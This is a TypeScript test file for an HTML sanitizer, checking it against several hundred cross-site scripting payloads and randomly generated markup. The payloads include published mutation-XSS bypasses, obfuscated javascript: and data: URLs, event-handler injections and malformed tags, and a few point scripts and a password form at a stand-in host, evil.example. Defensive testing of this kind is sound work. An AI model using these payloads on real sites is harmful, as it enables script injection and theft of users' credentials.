import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize-html.ts';
import { browserProblems } from './sanitize-html.mxss.test-kit.ts';

/**
 * Hostile rich text, each sanitized and then parsed as a browser would (the kit's oracle): nothing outside
 * the allow-list may come out, and sanitizing the output again must change nothing (a second pass that
 * changes the markup is the mark of a parser differential, the root of mutation XSS).
 *
 * Sources: the published mutation-XSS bypasses of DOMPurify and of Google's Closure sanitizer, 2019-2020
 * (noscript, svg/style, math/mglyph, form/math), PortSwigger's XSS cheat sheet
 * (portswigger.net/web-security/cross-site-scripting/cheat-sheet) and the OWASP XSS Filter Evasion Cheat
 * Sheet (cheatsheetseries.owasp.org) for the encoded URLs and malformed tags.
 */
const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><style><img src=x onerror=alert(1)></style></mi></math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=10>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)" /><a><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template><script>alert(1)</script></template><p>after</p>',
  '<p><template><style></template><img src=x onerror=alert(1)></style></p>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp></xmp ><img src=x onerror=alert(1)></xmp>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><style><img src=x onerror=alert(1)></style></select>',
  '<table><a href="javascript:alert(1)">fostered</a><td>x</td></table>',
  '<table><style><img src=x onerror=alert(1)></style><tr><td>x</td></tr></table>',
  '<p title="</p><img src=x onerror=alert(1)>">t</p>',
  '<a href="/x" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>',
  '&lt;img src=x onerror=alert(1)&gt; &lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p>&lt;<b>img src=x onerror=alert(1)&gt;</b></p>',
];

const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '   javascript:alert(1)',
  '\u0001\u0002javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '&#14;javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  'java&#9;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ' data:text/html,<script>alert(1)</script>',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript&colon;msgbox(1)',
];

/** Every URL above where a browser would follow or load it, quoted, single-quoted and unquoted. */
const IN_ATTRIBUTES = URLS.flatMap((url) => [
  `<a href="${url}">x</a>`,
  `<a href='${url}'>x</a>`,
  `<a href=${url.replace(/\s/g, '')}>x</a>`,
  `<img src="${url}">`,
  `<iframe src="${url}"></iframe>`,
  `<form action="${url}"><button>x</button></form>`,
  `<button formaction="${url}">x</button>`,
  `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
]);

const ELEMENTS_AND_ATTRIBUTES = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<p onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<a href="/ok" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<a href="/ok"onmouseover=alert(1)>x</a>',
  '<a href="https://ok.example/" target=_blank rel=opener>x</a>',
  '<td background="javascript:alert(1)">x</td>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<p srcdoc="<script>alert(1)</script>">x</p>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="https://evil.example/x.swf"><param name=x value=y></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<input type=image formaction=javascript:alert(1) src=x>',
  '<isindex action=javascript:alert(1) type=image>',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<style>p{background:url(javascript:alert(1))}</style><p>x</p>',
  '<style>@import "javascript:alert(1)";</style>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="background:url(\'javascript:alert(1)\')">x</p>',
  '<p style="behavior:url(x.htc)" class="x" id="y">x</p>',
  '<body onload=alert(1)>x',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
];

const MALFORMED = [
  '<img src=x onerror=alert(1)//',
  '<<img src=x onerror=alert(1)>>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="javascript:alert(1)"',
  '<a href=javascript:alert(1)>x',
  '<p title="x>y" onclick=alert(1)>x</p>',
  '<script>alert(1)</script',
  '</p><img src=x onerror=alert(1)>',
  '<p><b><i>x</p></b><img src=x onerror=alert(1)></i>',
  '<ul><li><span><li>x</li></span></li></ul>',
  '<a href="/x"><a href="javascript:alert(1)">y</a></a>',
  '<table><tr><td><table><tr><td>x</table><img src=x onerror=alert(1)>',
  '</br><img src=x onerror=alert(1)>',
];

const COMMENTS_AND_CDATA = [
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--<!--><img src=x onerror=alert(1)>-->',
  '<p><!--</p><img src=x onerror=alert(1)>--></p>',
  '<!--[if IE]><img src=x onerror=alert(1)><![endif]-->',
  '<? <img src=x onerror=alert(1)> ?>',
  '<!DOCTYPE html><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  '<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>',
  '<p><![CDATA[</p><img src=x onerror=alert(1)>]]></p>',
];

const CORPUS = [...MUTATION, ...IN_ATTRIBUTES, ...ELEMENTS_AND_ATTRIBUTES, ...MALFORMED, ...COMMENTS_AND_CDATA];

/** Pieces of markup the random documents below are strung from: kept and dropped tags, raw-text and foreign containers, comment and CDATA delimiters, lone quotes, brackets and references. */
const PIECES = [
  '<p>', '</p>', '<ul>', '</ul>', '<ol>', '<li>', '</li>', '<h2>', '</h2>', '<b>', '</b>', '<i>', '</i>', '<strong>', '<br>', '</br>',
  '<table>', '</table>', '<caption>', '<thead>', '<tbody>', '<tr>', '</tr>', '<td>', '</td>', '<th colspan=2>', '<a href="/x">',
  '<a href="javascript:alert(1)">', '</a>', '<span>', '</span>', '<div>', '</div>', '<font>', '<svg>', '</svg>', '<math>',
  '</math>', '<mglyph>', '<style>', '</style>', '<script>', '</script>', '<noscript>', '</noscript>', '<template>',
  '</template>', '<textarea>', '</textarea>', '<title>', '</title>', '<xmp>', '</xmp>', '<iframe>', '</iframe>', '<select>',
  '<option>', '<plaintext>', '<img src=x onerror=alert(1)>', '<!--', '-->', '--!>', '<![CDATA[', ']]>', '<!DOCTYPE html>',
  '<?', '<', '</', '>', '/', '=', '"', "'", ' ', '\t', '&', '&lt;', '&amp;', '&#x3c;', '&Tab;', 'x', '中', '<p title="',
  '<a href=', 'onerror=alert(1)',
];

/** A seeded generator (mulberry32), so a failure names a document that can be run again. */
function randomDocuments(count: number, seed: number): string[] {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(next() * 24) }, () => PIECES[Math.floor(next() * PIECES.length)]).join(''),
  );
}

describe('sanitizeHtml against mutation XSS', () => {
  it('has a corpus worth the name', () => {
    // Guards the test itself: a corpus emptied by mistake would pass every check below.
    expect(CORPUS.length).toBeGreaterThan(250);
  });

  it.each(CORPUS)('leaves a browser nothing outside the allow-list: %s', (html) => {
    const clean = sanitizeHtml(html);
    expect(browserProblems(clean), clean).toEqual([]);
  });

  it.each(CORPUS)('is idempotent: %s', (html) => {
    const clean = sanitizeHtml(html);
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it('holds both on random strings of markup pieces', () => {
    for (const html of randomDocuments(3000, 20240611)) {
      const clean = sanitizeHtml(html);
      expect(browserProblems(clean), `${html} -> ${clean}`).toEqual([]);
      expect(sanitizeHtml(clean), html).toBe(clean);
    }
  });

  it('lets through what the allow-list allows, so the checks above are not vacuous', () => {
    const html = '<p><a href="https://x.example/">x</a></p><table><tr><td colspan="2">c</td></tr></table>';
    expect(browserProblems(sanitizeHtml(html))).toEqual([]);
    expect(browserProblems('<p onclick="x">t</p><img src=x><a href="javascript:x">y</a><!-- c -->')).toEqual([
      '<p onclick>: event handler',
      '<p onclick>: attribute not in the allow-list',
      '<img> is never allowed',
      '<img> is not in the allow-list',
      '<img src>: attribute not in the allow-list',
      '<a href="javascript:x">: script or data URL',
      'a comment (comments are where the classic mutations hide)',
    ]);
  });
});
